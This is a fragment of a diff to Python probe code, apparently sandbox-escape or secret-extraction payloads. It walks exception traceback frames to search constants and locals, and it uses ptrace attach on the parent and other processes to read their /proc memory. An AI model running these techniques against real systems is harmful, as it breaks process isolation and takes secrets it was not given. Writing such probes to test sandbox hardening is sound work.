@@ -57,7 +57,7 @@ def solve(port, path, pid):
     except Exception as e:
         f = e.__traceback__.tb_frame
         while f:
-            found = seek(repr(f.f_globals)[:1000000])
+            found = seek(repr(f.f_code.co_consts) + repr(f.f_locals)[:1000000])
             if found: return found
             f = f.f_back
 """,
@@ -278,7 +278,7 @@ def seek(data):
 def solve(port, path, pid):
     import ctypes, os
     libc = ctypes.CDLL(None, use_errno=True)
-    for p in range(1, 40):
+    for p in (os.getppid(), *range(1, 40)):
         if p != os.getpid() and libc.ptrace(16, p, 0, 0) == 0:
             with open('/proc/%d/mem' % p, 'rb', 0) as mem, open('/proc/%d/maps' % p) as maps:
                 for line in maps:
